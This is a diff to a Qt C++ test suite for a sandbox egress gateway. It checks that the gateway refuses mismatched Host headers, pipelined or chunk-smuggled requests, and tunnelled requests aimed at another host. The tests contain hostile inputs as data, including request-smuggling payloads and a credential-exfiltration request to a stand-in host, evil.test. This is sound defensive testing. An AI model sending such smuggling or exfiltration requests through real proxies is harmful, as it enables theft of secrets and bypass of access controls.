@@ -21,6 +21,8 @@
 #include <QTcpSocket>
 #include <QTemporaryDir>
 #include <QTest>
+#include <memory>
+#include <vector>
 
 namespace {
 
@@ -87,6 +89,10 @@ private Q_SLOTS:
     void addsASecretOnlyForItsHost();
     void refusesAnUntrustedHost();
     void keepsASecretOutOfItsErrors();
+    void refusesAHostHeaderThatIsNotTheTarget();
+    void passesExactlyOneRequestAsItWasFramed();
+    void checksTheTargetInsideATunnel();
+    void boundsTheConnectionsOfOneSandbox();
 
 private:
     // The origin: answers every connection with `reply` once it has a request head (or, for a
@@ -242,14 +248,18 @@ QByteArray TestGateway::exchange(const QByteArray &request, int timeoutMs)
 
 void TestGateway::forwardsPlainHttpToAListedHost()
 {
-    control("grant\tcred-a\t*\trefuse\tweb.test:" + QByteArray::number(m_originPort));
+    control("grant\tcred-a\t127.0.0.1\trefuse\tweb.test:" + QByteArray::number(m_originPort));
     QCOMPARE(nextEvent(QStringLiteral("ok")).value(u"cred").toString(), QStringLiteral("cred-a"));
-    const QByteArray answer = exchange("GET http://web.test:" + QByteArray::number(m_originPort) +
-                                       "/x?y=1 HTTP/1.1\r\nHost: web.test\r\n" + auth("cred-a") +
-                                       "Proxy-Connection: keep-alive\r\n\r\n");
-    QVERIFY2(answer.startsWith("HTTP/1.0 200 OK") && answer.endsWith("hello"), answer.constData());
-    // The origin got the origin-form request without the proxy's headers.
-    QVERIFY2(m_received.startsWith("GET /x?y=1 HTTP/1.1\r\nHost: web.test\r\n"),
+    const QByteArray port = QByteArray::number(m_originPort);
+    const QByteArray answer =
+        exchange("GET http://web.test:" + port + "/x?y=1 HTTP/1.1\r\nHost: Web.Test:" + port +
+                 "\r\n" + auth("cred-a") + "Proxy-Connection: keep-alive\r\n\r\n");
+    // Read and passed on as one answer, its length kept.
+    QVERIFY2(answer.startsWith("HTTP/1.1 200 OK\r\n") && answer.contains("Content-Length: 5\r\n") &&
+                 answer.endsWith("hello"),
+             answer.constData());
+    // The origin got the origin-form request without the proxy's headers, Host first.
+    QVERIFY2(m_received.startsWith("GET /x?y=1 HTTP/1.1\r\nHost: web.test:" + port + "\r\n"),
              m_received.constData());
     QVERIFY(!m_received.contains("Proxy-"));
     QVERIFY(m_received.contains("Connection: close\r\n"));
@@ -264,7 +274,8 @@ void TestGateway::forwardsPlainHttpToAListedHost()
 
 void TestGateway::refusesWhatIsNotListed()
 {
-    control("grant\tcred-a\t*\trefuse\tweb.test:" + QByteArray::number(m_originPort) + ",*.0.0.1");
+    control("grant\tcred-a\t127.0.0.1\trefuse\tweb.test:" + QByteArray::number(m_originPort) +
+            ",*.0.0.1");
     nextEvent(QStringLiteral("ok"));
     // Another host, and the listed host on another port.
     QByteArray answer = exchange("CONNECT other.test:443 HTTP/1.1\r\n" + auth("cred-a") + "\r\n");
@@ -280,15 +291,15 @@ void TestGateway::refusesWhatIsNotListed()
     QVERIFY2(answer.contains("an address not on the allow-list"), answer.constData());
     QVERIFY(m_received.isEmpty());
     // A control line it cannot take is answered with why, and changes nothing.
-    control("grant\tcred-x\t*\tmaybe\tweb.test");
+    control("grant\tcred-x\t127.0.0.1\tmaybe\tweb.test");
     QVERIFY(nextEvent(QStringLiteral("error")).value(u"why").toString().contains(u"refuse or ask"));
-    control("grant\tcred-x\t*\trefuse\t*.com");
+    control("grant\tcred-x\t127.0.0.1\trefuse\t*.com");
     QVERIFY(nextEvent(QStringLiteral("error")).value(u"why").toString().contains(u"two labels"));
 }
 
 void TestGateway::refusesAWrongOrRevokedCredential()
 {
-    control("grant\tcred-a\t*\trefuse\tweb.test:" + QByteArray::number(m_originPort));
+    control("grant\tcred-a\t127.0.0.1\trefuse\tweb.test:" + QByteArray::number(m_originPort));
     nextEvent(QStringLiteral("ok"));
     const QByteArray request =
         "GET http://web.test:" + QByteArray::number(m_originPort) + "/ HTTP/1.1\r\n";
@@ -310,7 +321,7 @@ void TestGateway::refusesAWrongOrRevokedCredential()
 void TestGateway::tunnelsTlsOnlyToTheNamedHost()
 {
     const QByteArray port = QByteArray::number(m_originPort);
-    control("grant\tcred-a\t*\trefuse\ttls.example.test:" + port + ",web.test:" + port);
+    control("grant\tcred-a\t127.0.0.1\trefuse\ttls.example.test:" + port + ",web.test:" + port);
     nextEvent(QStringLiteral("ok"));
     const QByteArray clientHello = hello(); // its server name: tls.example.test
     QVERIFY(!clientHello.isEmpty());
@@ -351,14 +362,16 @@ void TestGateway::tunnelsTlsOnlyToTheNamedHost()
     answer =
         exchange("CONNECT web.test:" + port + " HTTP/1.1\r\n" + auth("cred-a") + "\r\n" + inner);
     QVERIFY2(answer.endsWith("hello"), answer.constData());
-    QCOMPARE(m_received, inner);
+    // Read as a forward is: one request, passed on with `Connection: close`.
+    QCOMPARE(m_received,
+             "GET /in HTTP/1.1\r\nHost: web.test:" + port + "\r\nConnection: close\r\n\r\n");
     QCOMPARE(nextEvent(QStringLiteral("conn")).value(u"verdict").toString(),
              QStringLiteral("allow"));
 }
 
 void TestGateway::refusesNamesThatLeadInward()
 {
-    control("grant\tcred-a\t*\trefuse\t*.lab.test:443");
+    control("grant\tcred-a\t127.0.0.1\trefuse\t*.lab.test:443");
     nextEvent(QStringLiteral("ok"));
     QByteArray answer =
         exchange("CONNECT meta.lab.test:443 HTTP/1.1\r\n" + auth("cred-a") + "\r\n");
@@ -368,7 +381,7 @@ void TestGateway::refusesNamesThatLeadInward()
     answer = exchange("CONNECT inner.lab.test:443 HTTP/1.1\r\n" + auth("cred-a") + "\r\n");
     QVERIFY2(answer.contains("resolves to 127.0.0.2, loopback"), answer.constData());
     // Listed exactly, the same name passes the address check (and then finds nothing there).
-    control("grant\tcred-a\t*\trefuse\tinner.lab.test:9");
+    control("grant\tcred-a\t127.0.0.1\trefuse\tinner.lab.test:9");
     nextEvent(QStringLiteral("ok"));
     answer = exchange("CONNECT inner.lab.test:9 HTTP/1.1\r\n" + auth("cred-a") + "\r\n");
     QVERIFY2(answer.startsWith("HTTP/1.1 502") && answer.contains("cannot connect to 127.0.0.2"),
@@ -378,7 +391,7 @@ void TestGateway::refusesNamesThatLeadInward()
 void TestGateway::asksAndFollowsTheVerdict()
 {
     const QByteArray port = QByteArray::number(m_originPort);
-    control("grant\tcred-b\t*\task\t");
+    control("grant\tcred-b\t127.0.0.1\task\t");
     nextEvent(QStringLiteral("ok"));
     const QByteArray request =
         "GET http://web.test:" + port + "/ HTTP/1.1\r\n" + auth("cred-b") + "\r\n";
@@ -451,7 +464,7 @@ void TestGateway::chainsThroughAnUpstreamProxy()
         });
     });
     const QByteArray port = QByteArray::number(m_originPort);
-    control("grant\tcred-a\t*\trefuse\ttls.example.test:" + port + ",web.test:" + port +
+    control("grant\tcred-a\t127.0.0.1\trefuse\ttls.example.test:" + port + ",web.test:" + port +
             ",nowhere.invalid,refused.test,*.lab.test:443,direct.test:" + port);
     nextEvent(QStringLiteral("ok"));
     control("upstream\t127.0.0.1:" + QByteArray::number(proxy.serverPort()) + "\t" +
@@ -474,12 +487,16 @@ void TestGateway::chainsThroughAnUpstreamProxy()
              QStringLiteral("allow"));
     // Plain HTTP: the request in absolute form, without the sandbox's Proxy-* headers.
     proxied.clear();
-    answer = exchange("GET http://web.test:" + port + "/x HTTP/1.1\r\nHost: web.test\r\n" +
-                      auth("cred-a") + "\r\n");
+    // A request pipelined after it (for another host) is not passed on.
+    answer = exchange("GET http://web.test:" + port + "/x HTTP/1.1\r\nHost: web.test:" + port +
+                      "\r\n" + auth("cred-a") +
+                      "\r\nGET http://evil.test/y HTTP/1.1\r\nHost: evil.test\r\n\r\n"
+                      "CONNECT evil.test:443 HTTP/1.1\r\n\r\n");
     QVERIFY2(answer.endsWith("proxied"), answer.constData());
-    QVERIFY2(proxied.startsWith("GET http://web.test:" + port + "/x HTTP/1.1\r\n" + upstreamAuth +
-                                "\r\nHost: web.test\r\n"),
+    QVERIFY2(proxied.startsWith("GET http://web.test:" + port + "/x HTTP/1.1\r\nHost: web.test:" +
+                                port + "\r\n" + upstreamAuth + "\r\n"),
              proxied.constData());
+    QVERIFY2(!proxied.contains("evil.test"), proxied.constData());
     QVERIFY2(!proxied.contains(QByteArray("cs:cred-a").toBase64()), proxied.constData());
     // A name the gateway cannot resolve is the proxy's to resolve; one that resolves inward
     // is refused as before, proxy or not.
@@ -554,7 +571,9 @@ void TestGateway::startTlsOrigin()
                     if (line.toLower().startsWith("authorization:"))
                         authorization = line.mid(14).trimmed();
                 const QByteArray body = "you sent: " + authorization;
-                s->write("HTTP/1.1 200 OK\r\nX-Echo: " + authorization + "\r\nContent-Length: " +
+                // And in a header's name (the last word of Authorization: the key itself).
+                s->write("HTTP/1.1 200 OK\r\nX-Echo: " + authorization + "\r\nX-Echo-" +
+                         authorization.split(' ').last() + ": 1\r\nContent-Length: " +
                          QByteArray::number(body.size()) + "\r\n\r\n" + body);
                 s->disconnectFromHost();
             });
@@ -634,7 +653,7 @@ void TestGateway::addsASecretOnlyForItsHost()
         return;
     const QByteArray tlsPort = QByteArray::number(m_tlsOrigin->serverPort());
     const QByteArray port = QByteArray::number(m_originPort);
-    control("grant\tcred-s\t*\trefuse\tworld.test:" + tlsPort + ",plain.test:" + port +
+    control("grant\tcred-s\t127.0.0.1\trefuse\tworld.test:" + tlsPort + ",plain.test:" + port +
             ",web.test:" + port);
     nextEvent(QStringLiteral("ok"));
     addSecret("cred-s", "plain.test:" + port);
@@ -662,6 +681,7 @@ void TestGateway::addsASecretOnlyForItsHost()
     // in both, and the body up to the end of the connection (masking may change its length).
     QVERIFY2(answer.startsWith("HTTP/1.1 200 OK\r\n"), answer.constData());
     QVERIFY2(answer.contains("\r\nX-Echo: Bearer " + kPlaceholder + "\r\n"), answer.constData());
+    QVERIFY2(answer.contains("\r\nX-Echo-" + kPlaceholder + ": 1\r\n"), answer.constData());
     QVERIFY2(answer.endsWith("\r\n\r\nyou sent: Bearer " + kPlaceholder), answer.constData());
     QVERIFY2(!answer.contains(kValue), answer.constData());
     QVERIFY2(!answer.toLower().contains("content-length"), answer.constData());
@@ -726,7 +746,7 @@ void TestGateway::refusesAnUntrustedHost()
     setUpInterception(QStringLiteral("stranger.pem"));
     if (QTest::currentTestFailed())
         return;
-    control("grant\tcred-s\t*\trefuse\tworld.test:" +
+    control("grant\tcred-s\t127.0.0.1\trefuse\tworld.test:" +
             QByteArray::number(m_tlsOrigin->serverPort()));
     nextEvent(QStringLiteral("ok"));
     addSecret("cred-s");
@@ -751,7 +771,7 @@ void TestGateway::refusesAnUntrustedHost()
 
 void TestGateway::keepsASecretOutOfItsErrors()
 {
-    control("grant\tcred-s\t*\trefuse\tworld.test");
+    control("grant\tcred-s\t127.0.0.1\trefuse\tworld.test");
     nextEvent(QStringLiteral("ok"));
     // What a secret's line carries must not come back out, whatever is wrong with it.
     const QByteArray notBase64 = "hunter2*not-base64!";
@@ -784,6 +804,168 @@ void TestGateway::keepsASecretOutOfItsErrors()
     for (const QByteArray &text : {notBase64, kValue, kValue.toBase64(), kPlaceholder,
                                    QByteArray("-----BEGIN PRIVATE KEY-----").toBase64()})
         QVERIFY2(!m_allOut.contains(text), m_allOut.constData());
+}
+
+void TestGateway::refusesAHostHeaderThatIsNotTheTarget()
+{
+    // An origin behind a shared front routes by Host: a forward's Host must name its target.
+    const QByteArray port = QByteArray::number(m_originPort);
+    control("grant\tcred-a\t127.0.0.1\trefuse\tweb.test:" + port);
+    nextEvent(QStringLiteral("ok"));
+    const QByteArray line = "GET http://web.test:" + port + "/ HTTP/1.1\r\n";
+    QByteArray answer = exchange(line + "Host: evil.test\r\n" + auth("cred-a") + "\r\n");
+    QVERIFY2(answer.startsWith("HTTP/1.1 421 Misdirected Request") &&
+                 answer.contains("the Host header names evil.test"),
+             answer.constData());
+    answer = exchange(line + "Host: web.test:1\r\n" + auth("cred-a") + "\r\n");
+    QVERIFY2(answer.startsWith("HTTP/1.1 421"), answer.constData());
+    answer = exchange(line + "Host: web.test:" + port + "\r\nHost: evil.test\r\n" + auth("cred-a") +
+                      "\r\n");
+    QVERIFY2(answer.startsWith("HTTP/1.1 400") && answer.contains("more than one Host"),
+             answer.constData());
+    QVERIFY(m_received.isEmpty());
+    // Without a Host header, the target's authority is the one the origin gets.
+    answer = exchange("GET http://web.test:" + port + "/ HTTP/1.0\r\n" + auth("cred-a") + "\r\n");
+    QVERIFY2(answer.endsWith("hello"), answer.constData());
+    QVERIFY2(m_received.startsWith("GET / HTTP/1.0\r\nHost: web.test:" + port + "\r\n"),
+             m_received.constData());
+}
+
+void TestGateway::passesExactlyOneRequestAsItWasFramed()
+{
+    const QByteArray port = QByteArray::number(m_originPort);
+    control("grant\tcred-a\t127.0.0.1\trefuse\tweb.test:" + port);
+    nextEvent(QStringLiteral("ok"));
+    // A request pipelined after an allowed one is not passed on.
+    const QByteArray first = "GET http://web.test:" + port +
+                             "/one HTTP/1.1\r\nHost: web.test:" + port + "\r\n" + auth("cred-a") +
+                             "\r\n";
+    QByteArray answer =
+        exchange(first + "GET http://evil.test/two HTTP/1.1\r\nHost: evil.test\r\n\r\n");
+    QVERIFY2(answer.endsWith("hello"), answer.constData());
+    QVERIFY2(m_received.startsWith("GET /one HTTP/1.1\r\n"), m_received.constData());
+    QVERIFY2(!m_received.contains("evil.test") && !m_received.contains("/two"),
+             m_received.constData());
+    // A chunked upload keeps its framing: the origin can tell where it ends.
+    m_received.clear();
+    const QByteArray chunks = "5\r\nhello\r\n0\r\n\r\n";
+    answer = exchange("POST http://web.test:" + port + "/up HTTP/1.1\r\nHost: web.test:" + port +
+                      "\r\n" + auth("cred-a") + "Transfer-Encoding: chunked\r\n\r\n" + chunks +
+                      "GET /smuggled HTTP/1.1\r\nHost: web.test\r\n\r\n");
+    QVERIFY2(answer.endsWith("hello"), answer.constData());
+    QVERIFY2(m_received.contains("\r\nTransfer-Encoding: chunked\r\n"), m_received.constData());
+    QVERIFY2(m_received.endsWith("\r\n\r\n" + chunks), m_received.constData());
+    QVERIFY(!m_received.contains("/smuggled"));
+}
+
+void TestGateway::checksTheTargetInsideATunnel()
+{
+    const QByteArray port = QByteArray::number(m_originPort);
+    control("grant\tcred-a\t127.0.0.1\trefuse\tweb.test:" + port);
+    nextEvent(QStringLiteral("ok"));
+    // Plain HTTP in a tunnel: a target in absolute form counts, whatever Host says.
+    exchange("CONNECT web.test:" + port + " HTTP/1.1\r\n" + auth("cred-a") +
+             "\r\nGET http://evil.test/x HTTP/1.1\r\nHost: web.test:" + port + "\r\n\r\n");
+    QJsonObject conn = nextEvent(QStringLiteral("conn"));
+    QCOMPARE(conn.value(u"verdict").toString(), QStringLiteral("deny"));
+    QVERIFY2(conn.value(u"rule").toString().contains(u"Host header names web.test"),
+             qPrintable(conn.value(u"rule").toString()));
+    exchange("CONNECT web.test:" + port + " HTTP/1.1\r\n" + auth("cred-a") +
+             "\r\nGET http://evil.test/x HTTP/1.1\r\n\r\n");
+    conn = nextEvent(QStringLiteral("conn"));
+    QVERIFY2(conn.value(u"rule").toString().contains(u"is for evil.test:80"),
+             qPrintable(conn.value(u"rule").toString()));
+    QVERIFY(m_received.isEmpty());
+    // The same host in absolute form goes, in origin form.
+    const QByteArray answer = exchange("CONNECT web.test:" + port + " HTTP/1.1\r\n" +
+                                       auth("cred-a") + "\r\nGET http://web.test:" + port +
+                                       "/abs HTTP/1.1\r\nHost: web.test:" + port + "\r\n\r\n");
+    QVERIFY2(answer.endsWith("hello"), answer.constData());
+    QVERIFY2(m_received.startsWith("GET /abs HTTP/1.1\r\n"), m_received.constData());
+
+    // Inside TLS the gateway terminates for a secret's host: another site's absolute target
+    // with the bound host's Host is refused before the value goes anywhere.
+    startTlsOrigin();
+    if (QTest::currentTestFailed())
+        return;
+    setUpInterception(QStringLiteral("ca.pem"));
+    if (QTest::currentTestFailed())
+        return;
+    const QByteArray tlsPort = QByteArray::number(m_tlsOrigin->serverPort());
+    control("grant\tcred-s\t127.0.0.1\trefuse\tworld.test:" + tlsPort);
+    nextEvent(QStringLiteral("ok"));
+    addSecret("cred-s");
+    if (QTest::currentTestFailed())
+        return;
+    QByteArray tlsAnswer;
+    throughTls("cred-s",
+               "GET https://evil.test/steal HTTP/1.1\r\nHost: world.test:" + tlsPort +
+                   "\r\nAuthorization: Bearer " + kPlaceholder + "\r\n\r\n",
+               &tlsAnswer);
+    if (QTest::currentTestFailed())
+        return;
+    QVERIFY2(tlsAnswer.startsWith("HTTP/1.1 421"), tlsAnswer.constData());
+    QVERIFY(m_tlsHeads.isEmpty());
+    // Its own authority in absolute form: passed on in origin form, with the value.
+    throughTls("cred-s",
+               "GET https://world.test:" + tlsPort + "/ok HTTP/1.1\r\nHost: world.test:" + tlsPort +
+                   "\r\nAuthorization: Bearer " + kPlaceholder + "\r\n\r\n",
+               &tlsAnswer);
+    QCOMPARE(m_tlsHeads.size(), 1);
+    QVERIFY2(m_tlsHeads.first().startsWith("GET /ok HTTP/1.1\r\nHost: world.test:" + tlsPort),
+             m_tlsHeads.first().constData());
+    QVERIFY(m_tlsHeads.first().contains(kValue));
+}
+
+void TestGateway::boundsTheConnectionsOfOneSandbox()
+{
+    // Two sandboxes: one at 127.0.0.1 holds far more connections than its share, silent; the
+    // other, at 127.0.0.2, goes on being served, and the gateway goes on running.
+    const QByteArray port = QByteArray::number(m_originPort);
+    control("grant\tcred-a\t127.0.0.1\trefuse\tweb.test:" + port);
+    nextEvent(QStringLiteral("ok"));
+    control("grant\tcred-b\t127.0.0.2\trefuse\tweb.test:" + port);
+    nextEvent(QStringLiteral("ok"));
+    std::vector<std::unique_ptr<QTcpSocket>> held;
+    for (int i = 0; i < 100; ++i) {
+        held.push_back(std::make_unique<QTcpSocket>());
+        held.back()->connectToHost(QHostAddress::LocalHost, quint16(m_port));
+    }
+    int refused = 0;
+    QElapsedTimer clock;
+    clock.start();
+    while (refused < 36 && clock.elapsed() < 10000) {
+        QCoreApplication::processEvents();
+        QTest::qWait(50);
+        refused = 0;
+        for (const auto &socket : held)
+            if (socket->bytesAvailable() > 0 || socket->property("seen").isValid()) {
+                if (!socket->property("seen").isValid())
+                    socket->setProperty("seen", socket->readAll());
+                QVERIFY2(socket->property("seen").toByteArray().startsWith(
+                             "HTTP/1.1 429 Too Many Requests"),
+                         socket->property("seen").toByteArray().constData());
+                ++refused;
+            }
+    }
+    // Exactly those past its share: the gateway serves no more of one sandbox's at once.
+    QCOMPARE(refused, 100 - 64);
+    QTcpSocket other;
+    QVERIFY(other.bind(QHostAddress(QStringLiteral("127.0.0.2"))));
+    other.connectToHost(QHostAddress::LocalHost, quint16(m_port));
+    QVERIFY(other.waitForConnected(5000));
+    other.write("GET http://web.test:" + port + "/b HTTP/1.1\r\nHost: web.test:" + port + "\r\n" +
+                auth("cred-b") + "\r\n");
+    QByteArray answer;
+    QTRY_VERIFY_WITH_TIMEOUT((answer += other.readAll()).endsWith("hello"), 10000);
+    QCOMPARE(m_gateway->state(), QProcess::Running);
+    // Its connections end, and with them the count: the first sandbox is served again.
+    held.clear();
+    QTRY_VERIFY_WITH_TIMEOUT(exchange("GET http://web.test:" + port +
+                                      "/a HTTP/1.1\r\nHost: web.test:" + port + "\r\n" +
+                                      auth("cred-a") + "\r\n")
+                                 .endsWith("hello"),
+                             10000);
 }
 
 QTEST_GUILESS_MAIN(TestGateway)
